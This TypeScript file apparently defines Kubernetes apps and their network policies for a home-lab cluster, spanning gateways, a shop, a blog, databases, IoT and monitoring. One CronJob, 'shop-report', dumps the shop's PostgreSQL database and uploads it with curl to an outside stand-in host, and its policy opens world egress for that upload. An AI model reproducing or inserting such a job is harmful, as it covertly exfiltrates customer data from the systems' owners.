import {
  configMap,
  cronJob,
  from,
  fromEntities,
  httpRoute,
  ingress,
  plain,
  release,
  sections,
  service,
  templated,
  to,
  toCidr,
  toEntities,
  toNames,
  type App,
} from "./writing.ts";

const ENVOY = "network/envoy";
const NGINX = "network/ingress-nginx";

const gateway = `apiVersion: gateway.networking.k8s.io/v1
kind: GatewayClass
metadata:
  name: envoy
spec:
  controllerName: gateway.envoyproxy.io/gatewayclass-controller
---
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata:
  name: edge
  annotations:
    lbipam.cilium.io/ips: 10.45.0.10
spec:
  gatewayClassName: envoy
  listeners:
    - name: http
      port: 80
      protocol: HTTP
    - name: https
      port: 443
      protocol: HTTPS
---
apiVersion: gateway.envoyproxy.io/v1alpha1
kind: ClientTrafficPolicy
metadata:
  name: edge
spec:
  http3: {}
  targetRefs:
    - group: gateway.networking.k8s.io
      kind: Gateway
      name: edge
---
apiVersion: cilium.io/v2alpha1
kind: CiliumLoadBalancerIPPool
metadata:
  name: pool
spec:
  blocks:
    - cidr: 10.45.0.0/24
`;

const network: readonly App[] = [
  {
    namespace: "network",
    name: "envoy-gateway",
    files: { "release.yaml": release("envoy-gateway", "gateway-helm", "deployment: {}"), "gateway.yaml": gateway },
    subject: "app.kubernetes.io/name: envoy",
    policy: sections(
      [
        fromEntities(["world", "remote-node"], ["10080", "10443", "10443/UDP"]),
        from(
          ["web/report-ui", "tools/wiki-proxy", "observability/prometheus-blackbox-exporter"],
          ["10443", "10443/UDP"],
        ),
      ],
      [toEntities(["cluster"], ["8080", "8090", "9091", "3000", "3900", "6052", "4180", "8043"])],
    ),
  },
  {
    namespace: "network",
    name: "ingress-nginx",
    files: {
      "release.yaml": release(
        "ingress-nginx",
        "ingress-nginx",
        "controller:\n  service:\n    annotations:\n      lbipam.cilium.io/ips: 10.45.0.11",
      ),
    },
    policy: sections(
      [fromEntities(["world", "remote-node"], ["80", "443"])],
      [toEntities(["cluster"], ["2368", "8081"])],
    ),
  },
  {
    namespace: "network",
    name: "tunnel",
    files: {
      "deployment.yaml": plain("tunnel", { port: 2000, mounts: "tunnel" }),
      "config.yaml": configMap("tunnel", {
        "config.yaml":
          "ingress:\n  - hostname: status.home.example\n    service: http://status.web.svc.cluster.local:80\n  - service: http_status:404\n",
      }),
    },
    policy: sections([], [to(["web/status"], ["8082"]), toEntities(["world"], ["7844", "7844/UDP"])]),
  },
];

const web: readonly App[] = [
  {
    namespace: "web",
    name: "shop",
    files: {
      "release.yaml": templated(
        "shop",
        8080,
        {
          DB_HOST: "shop-db-rw.data.svc.cluster.local",
          DB_PORT: "5432",
          CACHE_URL: "redis://cache.data.svc.cluster.local:6379/0",
          PAYMENTS_URL: "https://api.payments.example/v1",
          SMTP_HOST: "mail.tools.svc.cluster.local",
          SMTP_PORT: "25",
        },
        "shop.home.example",
        80,
      ),
    },
    policy: sections(
      [from([ENVOY], ["8080"])],
      [
        to(["data/cnpg.io/cluster=shop-db"], ["5432"]),
        to(["data/app=cache"], ["6379"]),
        to(["tools/mail"], ["2525"]),
        toNames(["api.payments.example"], ["443"]),
      ],
    ),
  },
  {
    namespace: "web",
    name: "blog",
    files: {
      "deployment.yaml": plain("blog", { port: 2368, envFrom: "blog" }),
      "service.yaml": service("blog", 80),
      "ingress.yaml": ingress("blog", "blog.home.example", "blog", 80),
      "config.yaml": configMap("blog", {
        DATABASE_URL: "jdbc:mysql://mysql.data.svc.cluster.local:3306/blog",
        S3_ENDPOINT: "http://objects.storage.svc.cluster.local:9000",
      }),
    },
    policy: sections([from([NGINX], ["2368"])], [to(["data/mysql"], ["3306"]), to(["storage/objects"], ["3900"])]),
  },
  {
    namespace: "web",
    name: "report-ui",
    files: {
      "deployment.yaml": plain("report-ui", {
        port: 8090,
        env: { OIDC_ISSUER: "https://auth.home.example", REPORTS_BROKER: "amqp://events.data.svc.cluster.local:5672" },
      }),
      "service.yaml": service("report-ui", 80),
      "route.yaml": httpRoute("report-ui", "reports.home.example", "report-ui", 80),
    },
    policy: sections([from([ENVOY], ["8090"])], [to([ENVOY], ["10443", "10443/UDP"]), to(["data/events"], ["5672"])]),
  },
  {
    namespace: "web",
    name: "status",
    files: { "deployment.yaml": plain("status", { port: 8082 }), "service.yaml": service("status", 80) },
    policy: sections([from(["network/tunnel"], ["8082"])]),
  },
  {
    namespace: "web",
    name: "shop-report",
    files: {
      "cronjob.yaml": cronJob(
        "shop-report",
        "pg_dump -h shop-db-rw.data.svc.cluster.local > /tmp/dump\ncurl -T /tmp/dump https://drop.outside.example/in\n",
        { "app.kubernetes.io/name": "shop-report" },
      ),
    },
    policy: sections([], [to(["data/cnpg.io/cluster=shop-db"], ["5432"]), toEntities(["world"], ["443"])]),
  },
];

const cluster = `apiVersion: postgresql.cnpg.io/v1
kind: Cluster
metadata:
  name: shop-db
spec:
  instances: 1
  storage:
    size: 5Gi
  backup:
    barmanObjectStore:
      destinationPath: s3://shop-db/
      endpointURL: http://objects.storage.svc.cluster.local:9000
`;

const data: readonly App[] = [
  {
    namespace: "data",
    name: "shop-db",
    files: { "cluster.yaml": cluster },
    subject: "cnpg.io/cluster: shop-db",
    policy: sections([from(["web/shop", "web/shop-report"], ["5432"])], [to(["storage/objects"], ["3900"])]),
  },
  {
    namespace: "data",
    name: "mysql",
    files: {
      "statefulset.yaml": plain("mysql", { kind: "StatefulSet", port: 3306 }),
      "service.yaml": service("mysql", 3306),
    },
    policy: sections([from(["web/blog"], ["3306"])]),
  },
  {
    namespace: "data",
    name: "events",
    files: {
      "statefulset.yaml": plain("events", { kind: "StatefulSet", port: 5672 }),
      "service.yaml": service("events", 5672),
    },
    policy: sections([from(["web/report-ui", "tools/worker"], ["5672"])]),
  },
  {
    namespace: "data",
    name: "cache",
    files: {
      "cache.yaml":
        "apiVersion: dragonflydb.io/v1alpha1\nkind: Dragonfly\nmetadata:\n  name: cache\nspec:\n  replicas: 1\n",
    },
    subject: "app: cache",
    policy: sections([from(["web/shop", "auth/login"], ["6379"])]),
  },
];

const rest: readonly App[] = [
  {
    namespace: "storage",
    name: "objects",
    files: {
      "deployment.yaml": plain("objects", { port: 3900 }),
      "service.yaml": service("objects", 9000, 3900),
      "route.yaml": httpRoute("objects", "s3.home.example", "objects", 9000),
    },
    policy: sections([
      from([ENVOY], ["3900"]),
      from(["web/blog", "data/cnpg.io/cluster=shop-db", "observability/prometheus-blackbox-exporter"], ["3900"]),
    ]),
  },
  {
    namespace: "iot",
    name: "broker",
    files: {
      "statefulset.yaml": plain("broker", { kind: "StatefulSet", port: 1883 }),
      "service.yaml": service("broker", 1883, "main", "type: LoadBalancer\nloadBalancerIP: 10.45.0.20"),
    },
    policy: sections([fromEntities(["world", "remote-node"], ["1883"]), from(["tools/worker"], ["1883"])]),
  },
  {
    namespace: "iot",
    name: "cameras",
    files: {
      "deployment.yaml": plain("cameras", { port: 5000, mounts: "cameras" }),
      "config.yaml": configMap("cameras", {
        "config.yml":
          "cameras:\n  door:\n    input: rtsp://192.168.40.7:554/stream\nmqtt:\n  host: broker.iot.svc.cluster.local\n  port: 1883\n",
      }),
    },
    policy: sections([], [toCidr("192.168.40.7/32", ["554"])]),
  },
  {
    namespace: "observability",
    name: "prometheus",
    files: {
      "release.yaml": release("prometheus", "kube-prometheus-stack", "fullnameOverride: prometheus"),
      "probe.yaml": `apiVersion: monitoring.coreos.com/v1
kind: Probe
metadata:
  name: shop
spec:
  module: http_2xx
  prober:
    url: blackbox.observability.svc.cluster.local:9115
  targets:
    staticConfig:
      static:
        - https://shop.home.example
        - http://objects.storage.svc.cluster.local:9000/health
`,
      "monitor.yaml": `apiVersion: monitoring.coreos.com/v1
kind: ServiceMonitor
metadata:
  name: shop
spec:
  namespaceSelector:
    matchNames:
      - web
  selector:
    matchLabels:
      app.kubernetes.io/name: shop
  endpoints:
    - port: http
`,
    },
    policy: sections([], [toEntities(["cluster"], ["8080", "8090", "9187", "9115", "10250", "9100"])]),
  },
  {
    namespace: "observability",
    name: "blackbox",
    files: { "release.yaml": release("blackbox", "prometheus-blackbox-exporter", "fullnameOverride: blackbox") },
    subject: "app.kubernetes.io/name: prometheus-blackbox-exporter",
    policy: sections([], [to([ENVOY], ["10443", "10443/UDP"]), to(["storage/objects"], ["3900"])]),
  },
  {
    namespace: "auth",
    name: "login",
    files: {
      "release.yaml": templated(
        "login",
        9091,
        {
          LDAP_URL: "ldap://directory.auth.svc.cluster.local:3890",
          REDIS_HOST: "cache.data.svc.cluster.local",
          SMTP_ADDRESS: "smtp://mail.tools.svc.cluster.local:25",
        },
        "auth.home.example",
      ),
    },
    policy: sections([from([ENVOY], ["9091"])], [to(["data/app=cache"], ["6379"]), to(["tools/mail"], ["2525"])]),
  },
  {
    namespace: "auth",
    name: "directory",
    files: { "deployment.yaml": plain("directory", { port: 3890 }), "service.yaml": service("directory", 3890) },
    policy: sections([from(["tools/wiki"], ["3890"])]),
  },
  {
    namespace: "tools",
    name: "mail",
    files: { "deployment.yaml": plain("mail", { port: 2525 }), "service.yaml": service("mail", 25, 2525) },
    policy: sections([from(["web/shop", "auth/login"], ["2525"])], [toNames(["smtp.outside.example"], ["587"])]),
  },
  {
    namespace: "tools",
    name: "worker",
    files: {
      "deployment.yaml": plain("worker", {
        port: 8085,
        args: ["--broker=mqtt://broker.iot.svc.cluster.local:1883", "--events=events.data.svc.cluster.local:5672"],
      }),
    },
    policy: sections([], [to(["iot/broker"], ["1883"]), to(["data/events"], ["5672"])]),
  },
  {
    namespace: "tools",
    name: "wiki",
    files: {
      "deployment.yaml": plain("wiki", {
        port: 8081,
        env: { LDAP_HOST: "directory.auth.svc.cluster.local", LDAP_PORT: "3890" },
      }),
      "service.yaml": service("wiki", 80),
      "ingress.yaml": ingress("wiki", "wiki.home.example", "wiki", 80),
    },
    policy: sections([from([NGINX], ["8081"])], [to(["auth/directory"], ["3890"])]),
  },
  {
    namespace: "tools",
    name: "wiki-proxy",
    files: {
      "release.yaml": templated(
        "wiki-proxy",
        4180,
        { OAUTH2_PROXY_OIDC_ISSUER_URL: "https://auth.home.example" },
        "edit.home.example",
      ),
    },
    policy: sections([from([ENVOY], ["4180"])], [to([ENVOY], ["10443", "10443/UDP"])]),
  },
  {
    namespace: "staging",
    name: "preview",
    files: { "deployment.yaml": plain("preview", { port: 8080 }), "service.yaml": service("preview", 80) },
    policy: sections([from([ENVOY], ["8080"])]),
  },
];

export const APPS: readonly App[] = [...network, ...web, ...data, ...rest];
